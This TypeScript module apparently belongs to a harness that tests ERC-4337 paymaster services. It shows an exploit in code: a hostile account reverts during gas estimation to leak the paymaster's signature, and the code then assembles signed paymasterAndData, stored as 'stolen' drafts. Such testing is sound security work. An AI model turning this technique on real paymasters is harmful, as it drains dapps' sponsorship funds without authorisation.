import type { Hex } from '../../src/shared/schema/hex.ts';
import type { UserOperation } from '../../src/shared/schema/user-operation.ts';
import { prepare, requestOf } from './asking.ts';
import { layoutOf } from './versions.ts';
import { asJson, reveal } from './operation.ts';
import type { Run } from './run.ts';
import type { Wish } from './wish.ts';

/** Where the paymaster's signature begins in `paymasterAndData`, in bytes. */
const SIGNATURE_AT = {
  '1.1.0': 180,
  '1.0.0': 116,
  'verifying-0.6': 84,
  'verifying-0.7': 116,
  'singleton-0.6': 33,
  'singleton-0.7': 65,
  'singleton-0.8': 65,
  'singleton-0.9': 65,
} as const;

/** The signature's digits in an answer of a failed estimation, if the account revealed them. */
const revealedDigits = (text: string): Hex | undefined => {
  const found = /-[0-9a-f]{60}(?:-[0-9a-f]{1,60})+/.exec(text)?.[0];
  return found === undefined ? undefined : `0x${found.replaceAll('-', '')}`;
};

/** Has a hostile account revert in the estimation with what the draft was signed with. */
export const askForDraft = async (run: Run, wanted: Wish): Promise<string> => {
  const wish: Wish = { ...wanted, sender: 2, estimates: true, dialect: 'biconomy', verificationGasLimit: 500_000n };
  const asked = await prepare(run, wish);
  run.tally.asked += 1;
  const { dapp, sender } = asked;
  const { version } = dapp.policy;
  const op = { ...asked.op, signature: reveal(SIGNATURE_AT[version]) };
  const now = Math.floor(run.time.deskNow() / 1_000);
  const { method, params } = requestOf(run.chain.chainId, dapp, asJson(op, 'lower'), wish);
  const { text } = await run.desk.post(dapp, method, params);
  const digits = revealedDigits(text);
  if (digits === undefined) return `nothing told: ${text.slice(0, 160)}`;
  const told = digits.slice(2);
  const number = (from: number, to: number): bigint => BigInt(`0x${told.slice(from, to)}`);
  const gas = {
    callGasLimit: number(0, 8),
    verificationGasLimit: number(8, 16),
    preVerificationGas: number(16, 24),
    maxFeePerGas: number(24, 40),
    maxPriorityFeePerGas: number(40, 56),
  };
  const layout = layoutOf(version);
  const finished = { ...op, ...gas, ...layout.paymasterGas, signature: '0x' } as UserOperation;
  const data = layout.encode(
    finished,
    {
      chainId: run.chain.chainId,
      paymaster: dapp.paymaster,
      fundingWallet: dapp.wallet,
      validAfter: now - 60,
      validUntil: now + wish.expiryDuration,
      senderNonce: 0n,
    },
    `0x${told.slice(56)}`,
  );
  run.stolen.push({ dapp, sender, op: finished, data });
  return `draft ${run.stolen.length - 1} told`;
};
